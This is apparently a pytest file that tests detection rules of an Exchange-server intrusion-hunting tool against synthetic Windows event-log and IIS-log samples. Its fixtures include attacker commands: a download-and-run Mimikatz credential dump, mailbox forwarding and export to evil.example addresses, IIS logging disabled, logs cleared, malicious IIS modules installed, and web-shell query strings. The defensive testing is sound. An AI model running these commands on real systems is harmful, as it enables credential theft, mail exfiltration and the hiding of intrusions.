"""Post-exploitation detections on Exchange servers (rules in data/rules/intrusion.toml), and the
LSASS false positives of monitoring and cloud agents."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from exhunt.model import ArtefactKind, Implies, Severity
from test_events_detect import (
    MANAGEMENT,
    POWERSHELL,
    SECURITY,
    SYSMON,
    W3WP,
    created,
    flat,
    hunt,
    ids,
    lsass_access,
    only,
    process,
)
from test_log_samples import benign_iis, evidence, iis_line, iis_log, run, write

DEFENDER = ("Microsoft-Windows-Windows Defender/Operational", "Microsoft-Windows-Windows Defender")
IIS_CONFIG = ("Microsoft-IIS-Configuration/Operational", "Microsoft-Windows-IIS-Configuration")
EDGE = "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\Bin\\EdgeTransport.exe"
CMD = "C:\\Windows\\System32\\cmd.exe"
POWERSHELL_EXE = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
APPCMD = "C:\\Windows\\System32\\inetsrv\\appcmd.exe"


def command(text: str, image: str = CMD, record: int = 1) -> dict[str, Any]:
    return process("C:\\Windows\\explorer.exe", "explorer.exe", image, text, record)


def security_command(text: str) -> dict[str, Any]:
    return flat(
        SECURITY,
        4688,
        NewProcessName=POWERSHELL_EXE,
        CommandLine=text,
        ParentProcessName=CMD,
        SubjectUserName="adm",
        SubjectDomainName="CORP",
    )


def script(text: str) -> dict[str, Any]:
    return flat(POWERSHELL, 4104, ScriptBlockText=text, ScriptBlockId="1a2b", Path="")


@pytest.mark.parametrize(
    ("doc", "rule_id", "tier"),
    [
        (command(f"{APPCMD} set config /section:httpLogging /dontLog:True", APPCMD), "EXH-EVT-IIS-LOGGING-OFF", "hit"),
        (
            script(
                "Set-WebConfigurationProperty -PSPath IIS:\\ -Filter system.webServer/httpLogging -Name dontLog -Value $true"
            ),
            "EXH-EVT-IIS-LOGGING-OFF",
            "hit",
        ),
        (command("cmd /c del /q C:\\inetpub\\logs\\LogFiles\\W3SVC1\\*.log"), "EXH-EVT-WEB-LOGS-DELETED", "hit"),
        (
            script("Remove-Item 'C:\\Program Files\\Microsoft\\Exchange Server\\V15\\Logging\\CmdletLogs\\*' -Recurse"),
            "EXH-EVT-WEB-LOGS-DELETED",
            "hit",
        ),
        (
            command('wevtutil cl "MSExchange Management"', "C:\\Windows\\System32\\wevtutil.exe"),
            "EXH-EVT-WEB-LOGS-DELETED",
            "hit",
        ),
        (
            command(f"{APPCMD} install module /name:ProxyIIS /image:C:\\Windows\\Temp\\px.dll", APPCMD),
            "EXH-EVT-IIS-NATIVE-MODULE",
            "hit",
        ),
        (
            script("New-WebGlobalModule -Name IISRaid -Image C:\\Windows\\System32\\inetsrv\\iisraid.dll"),
            "EXH-EVT-IIS-NATIVE-MODULE",
            "hit",
        ),
        (command(f"{APPCMD} list apppool /text:processmodel.password", APPCMD), "EXH-EVT-APPCMD-PASSWORDS", "hit"),
        (
            security_command("powershell New-InboxRule -Name x -Mailbox ceo -ForwardTo attacker@evil.example"),
            "EXH-EVT-INBOX-RULE-CMDLET",
            "hit",
        ),
        (
            script("Set-Mailbox -Identity cfo -ForwardingSmtpAddress smtp:drop@evil.example"),
            "EXH-EVT-INBOX-RULE-CMDLET",
            "hit",
        ),
        (
            script('New-MailboxExportRequest -Mailbox ceo -FilePath "\\\\localhost\\c$\\temp\\ceo.pst"'),
            "EXH-EVT-EXPORT-CMDLINE",
            "hit",
        ),
        (
            security_command(
                'powershell New-MailboxExportRequest -Mailbox a -FilePath "\\\\127.0.0.1\\c$\\inetpub\\wwwroot\\aspnet_client\\x.aspx"'
            ),
            "EXH-EVT-EXPORT-CMDLINE",
            "to-web",
        ),
        (
            script('New-ManagementRoleAssignment -Role "Mailbox Import Export" -User adm'),
            "EXH-EVT-EXPORT-CMDLINE",
            "hit",
        ),
        (
            script(
                'Install-TransportAgent -Name "Sync" -TransportAgentFactory X.Factory -AssemblyPath C:\\x\\agent.dll'
            ),
            "EXH-EVT-TRANSPORT-AGENT-CMDLINE",
            "hit",
        ),
        (
            script("IEX (New-Object Net.WebClient).DownloadString('http://x/a.ps1'); Invoke-Mimikatz -DumpCreds"),
            "EXH-EVT-MIMIKATZ",
            "hit",
        ),
        (command("m.exe privilege::debug misc::memssp exit", "C:\\ProgramData\\m.exe"), "EXH-EVT-MIMIKATZ", "hit"),
    ],
)
def test_command_lines_and_script_blocks(tmp_path: Path, doc: dict[str, Any], rule_id: str, tier: str) -> None:
    from exhunt.rules import rule

    result = hunt(tmp_path, doc)
    finding = only(result, rule_id)
    expected = rule(rule_id).outcome(tier)
    assert finding.severity is expected.severity and finding.implies is expected.implies
    assert finding.detail("matched")


def test_benign_commands_stay_quiet(tmp_path: Path) -> None:
    result = hunt(
        tmp_path,
        command(f"{APPCMD} list apppool", APPCMD),
        command(f"{APPCMD} set config /section:httpLogging /dontLog:False", APPCMD),
        script("Get-InboxRule -Mailbox ceo | Format-List ForwardTo"),
        script("Get-MailboxExportRequest | Format-List Status"),
        command("cmd /c dir C:\\inetpub\\logs\\LogFiles\\W3SVC1"),
    )
    assert [i for i in ids(result) if i.startswith("EXH-EVT-")] == []


def test_inbox_rule_in_the_management_log(tmp_path: Path) -> None:
    message = "Cmdlet suceeded. Cmdlet New-InboxRule, parameters -Mailbox ceo -Name sync -RedirectTo x@evil.example."
    result = hunt(tmp_path, flat(MANAGEMENT, 1, Message=message))
    finding = only(result, "EXH-EVT-INBOX-RULE-CMDLET")
    assert finding.detail("cmdlet") == "New-InboxRule" and "redirectto" in (finding.detail("matched") or "")


def test_edgetransport_children(tmp_path: Path) -> None:
    result = hunt(
        tmp_path,
        process(EDGE, "EdgeTransport.exe", CMD, "cmd /c whoami", 1),
        process(EDGE, "EdgeTransport.exe", "C:\\ProgramData\\svc.exe", "svc.exe", 2),
        process(EDGE, "EdgeTransport.exe", "C:\\Windows\\System32\\WerFault.exe", "WerFault.exe -u", 3),
    )
    assert ids(result) == ["EXH-EVT-EDGETRANSPORT-CHILD"] * 2
    shell, other = result.findings
    assert shell.severity is Severity.CRITICAL and shell.implies is Implies.COMPROMISE
    assert other.severity is Severity.HIGH and other.implies is Implies.SUSPICIOUS
    assert sum(result.suppressed.values()) == 1


def test_defender_web_shell_detections(tmp_path: Path) -> None:
    def detection(event_id: int, threat: str, path: str) -> dict[str, Any]:
        fields = {"Threat Name": threat, "Path": path, "Action Name": "Quarantine", "Category Name": "Backdoor"}
        return flat(DEFENDER, event_id, **fields)

    result = hunt(
        tmp_path,
        detection(1116, "Backdoor:ASP/Chopper.F!dha", "file:_C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\x.aspx"),
        detection(1117, "Exploit:Script/Chopper.gen!dha", "file:_C:\\ProgramData\\a.txt"),
        detection(
            1116,
            "Trojan:Win32/Wacatac",
            "file:_C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\owa\\auth\\x.dll",
        ),
        detection(1116, "Trojan:Win32/Wacatac", "file:_C:\\Users\\bob\\Downloads\\game.exe"),
        detection(5007, "Backdoor:ASP/Chopper", "x"),
    )
    assert ids(result) == ["EXH-EVT-AV-WEBSHELL"] * 3
    assert result.findings[0].implies is Implies.COMPROMISE
    assert result.findings[0].detail("web_shell_family") == "backdoor:asp"
    assert result.findings[2].detail("web_shell_family") is None  # reported for its web folder


def test_iis_configuration_change_events(tmp_path: Path) -> None:
    def change(configuration: str, old: str, new: str, record: int) -> dict[str, Any]:
        return flat(
            IIS_CONFIG,
            29,
            record,
            Configuration=configuration,
            OldValue=old,
            NewValue=new,
            EffectiveLocation="MACHINE/WEBROOT/APPHOST",
        )

    result = hunt(
        tmp_path,
        change("/system.webServer/httpLogging/@dontLog", "false", "true", 1),
        change("/system.webServer/httpLogging/@dontLog", "true", "false", 2),
        change("/system.webServer/globalModules/add[@name='ProxyIIS']", "", "C:\\Windows\\Temp\\px.dll", 3),
    )
    assert ids(result) == ["EXH-EVT-IIS-LOGGING-OFF", "EXH-EVT-IIS-NATIVE-MODULE"]


def test_log_files_deleted(tmp_path: Path) -> None:
    def deleted(image: str, target: str, event_id: int = 23) -> dict[str, Any]:
        return flat(SYSMON, event_id, Image=image, TargetFilename=target, User="CORP\\adm")

    result = hunt(
        tmp_path,
        deleted(CMD, "C:\\inetpub\\logs\\LogFiles\\W3SVC1\\u_ex221003.log"),
        deleted(POWERSHELL_EXE, "D:\\Exchange\\Logging\\HttpProxy\\Owa\\HttpProxy_2022100308-1.LOG", 26),
        deleted(
            "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\Bin\\Microsoft.Exchange.Diagnostics.Service.exe",
            "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\Logging\\HttpProxy\\Owa\\old.LOG",
        ),
        deleted(CMD, "C:\\inetpub\\wwwroot\\old.htm"),
    )
    assert ids(result) == ["EXH-EVT-WEB-LOGS-DELETED"] * 2
    assert sum(result.suppressed.values()) == 1


def test_w3wp_drops_outside_web_folders(tmp_path: Path) -> None:
    result = hunt(
        tmp_path,
        created(W3WP, "C:\\ProgramData\\nc.exe", 1),
        created(W3WP, "C:\\Users\\Public\\run.ps1", 2),
        created(
            W3WP,
            "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\Temporary ASP.NET Files\\ecp\\a\\App_Web_x.dll",
            3,
        ),
        created(W3WP, "C:\\Windows\\Temp\\abcd1234.dll", 4),
        created(W3WP, "C:\\Windows\\Temp\\notes.txt", 5),
        created("C:\\Windows\\explorer.exe", "C:\\ProgramData\\nc.exe", 6),
    )
    assert ids(result) == ["EXH-EVT-W3WP-FILE-DROP"] * 2
    assert [f.detail("target_file") for f in result.findings] == [
        "C:\\ProgramData\\nc.exe",
        "C:\\Users\\Public\\run.ps1",
    ]


def test_mimilsa_log_written(tmp_path: Path) -> None:
    result = hunt(tmp_path, created("C:\\Windows\\System32\\lsass.exe", "C:\\Windows\\System32\\mimilsa.log"))
    assert only(result, "EXH-EVT-MIMIKATZ").implies is Implies.COMPROMISE


def test_lsass_full_rights_or_unbacked_call_trace(tmp_path: Path) -> None:
    result = hunt(
        tmp_path,
        lsass_access("C:\\Users\\x\\AppData\\Local\\Temp\\a.exe", "0x1f1fff"),
        lsass_access(
            "C:\\Windows\\System32\\svchost.exe",
            "0x1410",
            "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|UNKNOWN(00000229D1F0A2B1)",
        ),
        lsass_access("C:\\Windows\\System32\\svchost.exe", "0x1000"),
    )
    assert [i for i in ids(result) if i == "EXH-EVT-LSASS-SUSPECT-ACCESS"] == ["EXH-EVT-LSASS-SUSPECT-ACCESS"] * 2
    unbacked = [f for f in result.findings if f.rule_id == "EXH-EVT-LSASS-SUSPECT-ACCESS"][1]
    assert unbacked.detail("unbacked_code")


# --- LSASS false positives: agents at their install path, with their usual rights -----------------

AGENTS = [
    "C:\\Windows\\Sysmon.exe",
    "C:\\Windows\\Sysmon64.exe",
    "C:\\WindowsAzure\\GuestAgent_2.7.41491.1102_2023-05-01\\CollectGuestLogs.exe",
    "C:\\Program Files\\Microsoft Monitoring Agent\\Agent\\HealthService.exe",
    "C:\\Users\\bob\\AppData\\Local\\Microsoft\\OneDrive\\23.076.0409.0001\\OneDriveStandaloneUpdater.exe",
    "C:\\Program Files\\Microsoft OneDrive\\OneDrive.exe",
    "C:\\Windows\\System32\\dxdiag.exe",
]


def handle(process_name: str, mask: str) -> dict[str, Any]:
    return flat(
        SECURITY,
        4656,
        ObjectType="Process",
        AccessMask=mask,
        ProcessName=process_name,
        ObjectName="\\Device\\HarddiskVolume2\\Windows\\System32\\lsass.exe",
        SubjectUserName="SYSTEM",
        SubjectDomainName="NT AUTHORITY",
    )


@pytest.mark.parametrize("agent", AGENTS)
def test_agents_reading_lsass_are_suppressed_by_path_and_mask(tmp_path: Path, agent: str) -> None:
    result = hunt(tmp_path, handle(agent, "0x1410"), lsass_access(agent, "0x1410"))
    assert ids(result) == []
    assert sum(result.suppressed.values()) == 2


@pytest.mark.parametrize("agent", AGENTS)
def test_agents_asking_for_more_rights_are_still_reported(tmp_path: Path, agent: str) -> None:
    result = hunt(tmp_path, handle(agent, "0x1fffff"))
    assert ids(result) == ["EXH-EVT-LSASS-HANDLE"]


@pytest.mark.parametrize(
    "impostor",
    [
        "C:\\Users\\Public\\Sysmon.exe",
        "C:\\ProgramData\\HealthService.exe",
        "C:\\Temp\\dxdiag.exe",
        "C:\\x\\CollectGuestLogs.exe",
    ],
)
def test_agent_names_elsewhere_are_still_reported(tmp_path: Path, impostor: str) -> None:
    result = hunt(tmp_path, handle(impostor, "0x1410"), lsass_access(impostor, "0x1410"))
    assert ids(result) == ["EXH-EVT-LSASS-ACCESS", "EXH-EVT-LSASS-HANDLE"] or sorted(ids(result)) == sorted(
        ["EXH-EVT-LSASS-HANDLE", "EXH-EVT-LSASS-ACCESS"]
    )


# --- IIS: shell commands in query strings ---------------------------------------------------------

IIS = "C/inetpub/logs/LogFiles/W3SVC1/u_ex221003.log"


def shell_request(stem: str, query: str, status: str = "200") -> str:
    return iis_line(
        **{"cs-method": "GET", "cs-uri-stem": stem, "cs-uri-query": query, "c-ip": "203.0.113.9", "sc-status": status}
    )


def test_shell_commands_in_query_strings(tmp_path: Path) -> None:
    write(
        tmp_path,
        IIS,
        iis_log(
            [
                *benign_iis(10),
                shell_request("/ews/help.aspx", "c=whoami"),
                shell_request("/ecp/x/report.aspx", "q=cmd%20/c%20ipconfig%20/all", "404"),
                shell_request("/owa/tools/s.aspx", "x=1&cmd=%22powershell%22+-enc+SQBFAFgA"),
                shell_request("/aspnet_client/system_web/a.aspx", "c=whoami"),  # EXH-IIS-WEBSHELL-ACCESS's
                shell_request("/owa/search.aspx", "q=networking%20whoami%20guide"),
                shell_request("/owa/", "cmd=none&page=1"),
            ]
        ),
    )
    result = run("iis-log", evidence(tmp_path, IIS, ArtefactKind.IIS))
    commands = [f for f in result.findings if f.rule_id == "EXH-IIS-WEBSHELL-COMMAND"]
    assert [f.evidence.line for f in commands] == [15, 16, 17]
    ran, refused, encoded = commands
    assert ran.implies is Implies.COMPROMISE and ran.detail("command") == "whoami"
    assert refused.implies is Implies.ATTEMPT and refused.severity is Severity.MEDIUM
    assert encoded.detail("parameter") == "cmd" and (encoded.detail("command") or "").startswith("powershell")
    assert "EXH-IIS-WEBSHELL-ACCESS" in {f.rule_id for f in result.findings}


def test_export_by_command_line_asks_for_the_mailbox_export_review() -> None:
    from exhunt.model import EvidenceRef
    from exhunt.remediation import _steps_of
    from exhunt.rules import rule

    finding = rule("EXH-EVT-EXPORT-CMDLINE").finding(EvidenceRef("x.evtx", 1))
    assert "mailbox-exports" in _steps_of(finding)
